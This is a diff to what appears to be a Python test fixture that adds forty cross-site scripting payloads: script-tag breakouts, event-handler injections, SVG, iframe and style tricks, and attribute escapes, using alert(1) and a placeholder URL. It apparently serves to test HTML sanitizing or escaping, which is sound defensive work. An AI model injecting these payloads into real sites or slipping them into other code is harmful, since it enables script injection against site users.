@@ -44,3 +44,51 @@ HOSTILE = (
 )
 
 assert len(HOSTILE) == len(set(HOSTILE)) == 40
+
+RUN = "alert(1)"
+ASK = "https://example.org/x"
+XSS = (
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script/x>{RUN}</script>",
+    f"<script src={ASK}></script>",
+    f"<script src=data:text/javascript,{RUN}></script>",
+    f"<script type=module>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src={ASK}>",
+    f"<img srcset='{ASK} 2x'>",
+    f"<image src=x onerror={RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><use href={ASK}#x></svg>",
+    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
+    f"<iframe src={ASK}></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    f"<embed src={ASK}>",
+    f"<video><source onerror={RUN} src=x></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<body onload={RUN}>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<a id=x tabindex=1 onfocus={RUN} autofocus>x</a>",
+    f"<style>@import '{ASK}'</style>",
+    f"<style>*{{background:url({ASK})}}</style>",
+    f"<link rel=stylesheet href={ASK}>",
+    f"<meta http-equiv=refresh content='0;url={ASK}'>",
+    f"<base href={ASK}/>",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"' style='background:url({ASK})' x='",
+)
+"""Forty that open a dialog, or ask for something outside, where they become markup."""
+
+assert len(set(XSS)) == 40
